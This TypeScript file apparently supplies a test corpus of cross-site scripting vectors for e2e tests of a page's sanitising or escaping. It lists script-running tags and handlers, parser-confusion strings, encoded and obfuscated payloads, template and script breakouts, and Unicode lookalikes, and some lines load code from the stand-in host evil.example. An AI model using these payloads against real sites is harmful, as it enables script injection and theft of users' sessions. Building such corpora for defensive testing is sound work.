import { addresses, contexts, RUN } from './markupPlaces.ts';

/**
 * Texts that become a script where text is taken for markup, an address or a part of the page's own code. Most are made,
 * not collected: every way in (element and handler, address, context that is read anew) with every disguise. The tests in
 * `e2e` put the same texts into pages.
 */
export function markupVectors(): string[] {
  return [...new Set([...starters, ...oddities, ...disguises(), ...contexts(), ...addresses(), ...pageBreakers(), ...lookalikes()])];
}

/** Elements that run something by themselves or at the slightest touch. */
const starters: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src=data:,${RUN}></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img srcset=x onerror=${RUN}>`,
  `<image href=x onerror=${RUN}>`,
  `<picture><source srcset=x><img onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script>`,
  `<svg><script href=data:,${RUN} />`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RUN} attributeName=x>`,
  `<svg><a><animate attributeName=href values=javascript:${RUN} /><text y=20>x`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${RUN}</script></svg>#x">`,
  `<svg><foreignObject><iframe onload=${RUN}>`,
  `<math href=javascript:${RUN}>x</math>`,
  `<math><maction actiontype=statusline xlink:href=javascript:${RUN}>x`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<iframe src=javascript:${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<iframe onload=${RUN}>`,
  `<object data=javascript:${RUN}>`,
  `<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>`,
  `<embed src=javascript:${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<video src=x onerror=${RUN}>`,
  `<audio src=x onerror=${RUN}>`,
  `<track onerror=${RUN} src=x>`,
  `<details open ontoggle=${RUN}>`,
  `<div popover id=p onbeforetoggle=${RUN}>`,
  `<dialog open onclose=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<button autofocus onfocus=${RUN}>`,
  `<a href=# autofocus tabindex=1 onfocus=${RUN}>x`,
  `<p contenteditable autofocus onfocus=${RUN}>`,
  `<div tabindex=0 autofocus onfocusin=${RUN}>`,
  `<marquee onstart=${RUN}>x`,
  `<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=${RUN}>x`,
  `<b style=transition:1s onwebkittransitionend=${RUN}>x`,
  `<style onload=${RUN}></style>`,
  `<style>@import 'javascript:${RUN}';</style>`,
  `<link rel=stylesheet href=data:,* onload=${RUN}>`,
  `<link rel=preload as=script href=x onerror=${RUN}>`,
  `<form action=javascript:${RUN}><button>x`,
  `<form><button formaction=javascript:${RUN}>x`,
  `<input type=image src=x onerror=${RUN}>`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<base href=javascript:/a/+${RUN}//>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'">`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `<slot onslotchange=${RUN}><b>x`,
  `<frameset onload=${RUN}>`,
  `<table background=javascript:${RUN}>`,
  `<xss onpointerover=${RUN} style=position:fixed;inset:0>x</xss>`,
];

/** Ways in that have made their way past some reader before, and follow no pattern. */
const oddities: readonly string[] = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<template><script>${RUN}</script></template>`,
  `<x onclick=${RUN}>x</x>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  '<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script/></x>',
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\\<script>${RUN}\\</script>`,
  `<<script>${RUN}//<</script>`,
  `</title><script>${RUN}</script>`,
  '<style>@import "//evil.example"</style>',
  `<object data="data:text/html,<script>${RUN}</script>">`,
  '<base href="//evil.example/">',
  '<link rel=stylesheet href=//evil.example>',
];

/** The same three in other clothes: separators, quotes, case, and the payload written in other ways. */
function disguises(): string[] {
  const separators = ['/', '\t', '\n', '\f', '\r', '//', ' / ', '\u00a0', '/x=">" '];
  const quotes = ['"', "'", '`'];
  const payloads = [
    'alert`1`',
    '&#97;lert(1)',
    '&#x61;&#x6c;ert(1)',
    '&#0000097lert(1)',
    String.raw`\u0061lert(1)`,
    String.raw`\u{61}lert(1)`,
    "top['al'+'ert'](1)",
    "eval(atob('YWxlcnQoMSk='))",
    'Function`alert(1)```',
    "setTimeout('alert(1)')",
    'location=/javascript:alert(1)/.source',
    'import(`data:text/javascript,alert(1)`)',
    '[1].find(alert)',
    'window.onerror=alert;throw 1',
    'alert&lpar;1&rpar;',
    'a=alert,a(1)',
    '(alert)(1)',
    'self[/alert/.source](1)',
  ];
  const tags = [
    ['img', 'src=x onerror'],
    ['svg', 'onload'],
    ['input', 'autofocus onfocus'],
  ] as const;
  return tags.flatMap(([tag, handler]) => [
    ...separators.map((separator) => `<${tag}${separator}${handler}=${RUN}>`),
    ...quotes.map((quote) => `<${tag} ${handler}=${quote}${RUN}${quote}>`),
    ...payloads.map((payload) => `<${tag} ${handler}="${payload}">`),
    `<${tag.toUpperCase()} ${handler.replaceAll('on', 'oN')}=${RUN}>`,
    `<${tag} ${handler} = ${RUN}`,
    `<<${tag} ${handler}=${RUN}//<`,
    `&lt;${tag} ${handler}=${RUN}&gt;`,
    `%3C${tag}%20${handler}=${RUN}%3E`,
    `<${tag[0]}<${tag} ${handler}=${RUN}>${tag.slice(1)}>`,
  ]);
}

/** What leaves the page's own code: its state, its templates, its selectors. */
const pageBreakers = () => [
  `</script><script>${RUN}</script>\u2028`,
  `</ScRiPt ><script>${RUN}</script>`,
  `<!--<script>${RUN}`,
  String.raw`\u003c/script\u003e\u003cscript\u003ealert(1)\u003c/script\u003e`,
  `"}]}</script><script>${RUN}</script>`,
  `\\"};${RUN}//`,
  `';${RUN}//`,
  `\u2028${RUN}\u2029`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `[[\${${RUN}}]]`,
  `{"$$typeof":"react.element","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${RUN}"}}}`,
  '{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}',
  'expression(alert(1))',
  'x:url(javascript:alert(1))',
  '}*{background:url(//evil.example)}',
  '[[<img src=x onerror=alert(1)>]]',
  '<cp-search-box onload=alert(1)>',
];

/** Letters that another reader may take for `<`, `s` or nothing at all. */
const lookalikes = () => [
  `\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E`,
  `\uFE64img src=x onerror=${RUN}\uFE65`,
  `<\u017Fcript>${RUN}</\u017Fcript>`,
  `<scr\u0130pt>${RUN}</scr\u0130pt>`,
  `<s\u200Bcript>${RUN}</s\u200Bcript>`,
  `<s\u00ADcript>${RUN}</s\u00ADcript>`,
  `\uFEFF<script>${RUN}</script>`,
  `\u202E>tpircs<${RUN}>tpircs/<`,
  `\u2066<img src=x onerror=${RUN}>\u2069`,
  `<\u0338img src=x onerror=${RUN}>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\u00BCscript\u00BE${RUN}\u00BC/script\u00BE`,
  `\u2039script\u203A${RUN}\u2039/script\u203A`,
  `<img src=x o\u0301nerror=${RUN}>`,
  `<img src=x onerror\u3000=${RUN}>`,
  `<a href="ja\u200Dvascript:${RUN}">x</a>`,
  `<script>\u{1F600}${RUN}</script>`,
  `<\uD83D\uDE00 onclick=${RUN}>`,
];
